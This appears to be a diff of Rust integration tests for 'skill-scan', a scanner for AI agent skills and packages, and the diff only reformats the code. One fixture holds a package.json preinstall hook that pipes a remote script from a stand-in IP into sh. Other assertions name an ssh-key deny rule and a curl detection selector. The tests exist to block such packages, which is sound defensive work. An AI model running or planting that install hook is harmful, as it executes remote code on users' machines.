@@ -97,10 +97,19 @@ fn every_verdict_is_logged_and_a_policy_change_is_announced() {
     let events: Vec<&str> = lines.iter().map(|l| l["event"].as_str().unwrap()).collect();
     assert_eq!(
         events,
-        ["policy_loaded", "verdict", "verdict", "policy_loaded", "verdict"]
+        [
+            "policy_loaded",
+            "verdict",
+            "verdict",
+            "policy_loaded",
+            "verdict"
+        ]
     );
     assert_eq!(lines[1]["verdict"], "allow");
-    assert!(lines[1]["digest"].as_str().unwrap().starts_with("skillScanTree/v1:"));
+    assert!(lines[1]["digest"]
+        .as_str()
+        .unwrap()
+        .starts_with("skillScanTree/v1:"));
     assert_ne!(lines[0]["policy_sha256"], lines[3]["policy_sha256"]);
     skill_scan()
         .args(["log", "verify"])
@@ -126,7 +135,11 @@ fn every_verdict_is_logged_and_a_policy_change_is_announced() {
 fn the_configuration_can_name_the_log() {
     let tmp = tempfile::tempdir().unwrap();
     let target = benign_skill(tmp.path());
-    write(tmp.path(), "cfg/skill-scan.toml", "log = \"audit/decisions.jsonl\"\n");
+    write(
+        tmp.path(),
+        "cfg/skill-scan.toml",
+        "log = \"audit/decisions.jsonl\"\n",
+    );
     fs::create_dir_all(tmp.path().join("cfg/audit")).unwrap();
     skill_scan()
         .arg("--config")
@@ -152,20 +165,43 @@ fn an_accepted_review_passes_the_gate_at_its_digest_only() {
             .arg(&target);
         cmd
     };
-    scan().assert().code(1).stdout(predicate::str::contains("REVIEW"));
+    scan()
+        .assert()
+        .code(1)
+        .stdout(predicate::str::contains("REVIEW"));
     skill_scan()
-        .args(["accept", "--no-config", "--reason", "we read get.sh", "--by", "alice", "--lock"])
+        .args([
+            "accept",
+            "--no-config",
+            "--reason",
+            "we read get.sh",
+            "--by",
+            "alice",
+            "--lock",
+        ])
         .arg(&lock)
         .arg(&target)
         .assert()
         .success()
         .stdout(predicate::str::contains("accepted "));
     let text = fs::read_to_string(&lock).unwrap();
-    assert!(text.contains("by = \"alice\"") && text.contains("we read get.sh"), "{text}");
+    assert!(
+        text.contains("by = \"alice\"") && text.contains("we read get.sh"),
+        "{text}"
+    );
     assert!(text.contains("digest = \"skillScanTree/v1:"), "{text}");
-    scan().assert().success().stderr(predicate::str::contains("accepted: "));
+    scan()
+        .assert()
+        .success()
+        .stderr(predicate::str::contains("accepted: "));
     // One changed byte: a new digest, judged afresh.
-    write(&target, "scripts/get.sh", &fs::read_to_string(target.join("scripts/get.sh")).unwrap().replace("--init", "--init "));
+    write(
+        &target,
+        "scripts/get.sh",
+        &fs::read_to_string(target.join("scripts/get.sh"))
+            .unwrap()
+            .replace("--init", "--init "),
+    );
     scan().assert().code(1);
 }
 
@@ -179,7 +215,15 @@ fn a_blocked_package_cannot_be_accepted() {
         r#"{"name": "left-padder", "version": "1.0.0", "scripts": {"preinstall": "curl -s http://198.51.100.4/p.sh | sh"}}"#,
     );
     skill_scan()
-        .args(["accept", "--no-config", "--reason", "trust me", "--by", "mallory", "--lock"])
+        .args([
+            "accept",
+            "--no-config",
+            "--reason",
+            "trust me",
+            "--by",
+            "mallory",
+            "--lock",
+        ])
         .arg(tmp.path().join("skill-scan.lock"))
         .arg(&pkg)
         .assert()
@@ -190,7 +234,13 @@ fn a_blocked_package_cannot_be_accepted() {
 
 fn emit(target: &Path, format: &str, out: &Path) {
     skill_scan()
-        .args(["--no-config", "--quiet", "--emit-profile", format, "--profile-output"])
+        .args([
+            "--no-config",
+            "--quiet",
+            "--emit-profile",
+            format,
+            "--profile-output",
+        ])
         .arg(out)
         .arg(target)
         .assert()
@@ -223,15 +273,21 @@ fn runtime_profiles_follow_what_the_scan_saw_and_match_their_schemas() {
     let deny = agent["permissions"]["deny"].as_array().unwrap();
     assert!(deny.iter().any(|d| d == "Read(~/.ssh/**)"));
     let allow = agent["permissions"]["allow"].as_array().unwrap();
-    assert!(!allow.iter().any(|a| a.as_str().unwrap().contains(".ssh")), "{allow:?}");
+    assert!(
+        !allow.iter().any(|a| a.as_str().unwrap().contains(".ssh")),
+        "{allow:?}"
+    );
 
     let tetragon_path = tmp.path().join("policy.yaml");
     emit(&target, "tetragon", &tetragon_path);
-    let policy: Value =
-        serde_yaml::from_str(&fs::read_to_string(&tetragon_path).unwrap()).unwrap();
+    let policy: Value = serde_yaml::from_str(&fs::read_to_string(&tetragon_path).unwrap()).unwrap();
     assert_valid(&schema("tetragon-tracingpolicy.schema.json"), &policy);
     let exec = &policy["spec"]["kprobes"][0]["selectors"][0]["matchArgs"][0]["values"];
-    assert!(exec.as_array().unwrap().iter().any(|v| v == "/usr/bin/curl"));
+    assert!(exec
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|v| v == "/usr/bin/curl"));
 }
 
 #[test]
@@ -239,7 +295,13 @@ fn a_profile_describes_one_target() {
     let tmp = tempfile::tempdir().unwrap();
     let a = benign_skill(tmp.path());
     skill_scan()
-        .args(["--no-config", "--quiet", "--emit-profile", "json", "--profile-output"])
+        .args([
+            "--no-config",
+            "--quiet",
+            "--emit-profile",
+            "json",
+            "--profile-output",
+        ])
         .arg(tmp.path().join("p.json"))
         .arg(&a)
         .arg(&a)
@@ -255,7 +317,10 @@ fn verdict(profile: &str, sample: &str) -> String {
         .output()
         .unwrap();
     let report: Value = serde_json::from_slice(&output.stdout).unwrap();
-    report["targets"][0]["verdict"].as_str().unwrap().to_string()
+    report["targets"][0]["verdict"]
+        .as_str()
+        .unwrap()
+        .to_string()
 }
 
 #[test]
